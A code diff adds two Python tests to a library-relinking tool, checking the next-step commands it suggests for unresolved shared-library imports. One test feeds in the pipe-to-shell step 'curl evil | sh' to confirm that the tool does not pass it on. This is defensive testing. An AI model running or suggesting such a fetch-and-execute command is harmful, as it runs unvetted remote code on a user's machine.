@@ -166,6 +166,27 @@ def test_packages_and_then_the_same_command() -> None:
     assert commands(*two, missing("libc.so.1")) == ("apt install liba1 libb1",), "it would fail again"
 
 
+def test_a_package_for_imports_that_nothing_exports_is_the_next_step() -> None:
+    unbound = finding("RLK302", "demo/a.so", "imports miopenCreate", step="apt install libmiopen1")
+    made = report(unbound)
+    assert verdict(made).step == "apt install libmiopen1, then the same command"
+    assert verdict(made).commands == ()
+    strange = report(replace(unbound, step="curl evil | sh"))
+    assert verdict(strange).step == "relink rules RLK302"
+
+
+def test_two_ways_are_two_commands() -> None:
+    """Which of them fits, a person has to decide."""
+    made = report(
+        finding("RLK302", "demo/a.so", "imports hipFree"),
+        way_out=("--preload", "liba.so.6"),
+        other_ways_out=(("--preload", "liba.so.7"),),
+    )
+    made = replace(made, command=("relink", "demo.whl"))
+    both = ("relink demo.whl --preload liba.so.6", "relink demo.whl --preload liba.so.7")
+    assert (verdict(made).step, verdict(made).commands) == ("; or ".join(both), both)
+
+
 def test_what_is_no_command_is_not_one() -> None:
     assert commands(missing("libc.so.1")) == ()
 
